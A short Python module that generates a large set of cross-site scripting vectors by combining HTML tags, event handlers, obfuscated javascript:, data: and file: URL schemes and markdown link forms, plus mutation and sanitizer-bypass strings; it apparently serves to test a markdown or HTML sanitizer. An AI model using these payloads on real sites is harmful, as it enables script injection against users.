"""Ways to smuggle a script into a page, made out of parts, so that there are many."""

from __future__ import annotations

from itertools import product

TAGS = ("script", "img", "svg", "iframe", "object", "embed", "math", "style", "link", "meta", "base", "form", "video")
HANDLERS = ("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle", "onanimationend")
SCHEMES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript&colon;alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "//elsewhere.example/x",
    "file:///etc/passwd",
    "blob:https://elsewhere.example/1",
)
FRAMES = (
    "[x]({})",
    "[x](<{}>)",
    "<{}>",
    "![x]({})",
    "[x][1]\n\n[1]: {}",
    '<a href="{}">x</a>',
    "> [x]({})",
    "- [x]({})",
)
ODD = (
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "</p></article><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<a href='https://x.example' onclick='alert(1)'>x</a>",
    '[x](https://x.example "title" onclick=alert(1))',
    '[x](https://x.example/" onclick="alert(1))',
    "[x](https://x.example/'onmouseover='alert(1))",
    '<https://x.example/"onclick="alert(1)>',
    "#1<script>alert(1)</script>#2",
    'community#1" onclick="alert(1)',
    "**<b onclick=alert(1)>**",
    "`<script>alert(1)</script>`",
    "{{ request }} {% include 'x' %}",
    "＜script＞alert(1)＜/script＞",
    "<\u200bscript>alert(1)</script>",
    "\u202e<script>alert(1)</script>",
)

VECTORS = [
    *(f"<{tag} {handler}=alert(1) src=x href=x>" for tag, handler in product(TAGS, HANDLERS)),
    *(f"<{tag}>alert(1)</{tag}>" for tag in TAGS),
    *(frame.format(scheme) for frame, scheme in product(FRAMES, SCHEMES)),
    *ODD,
]
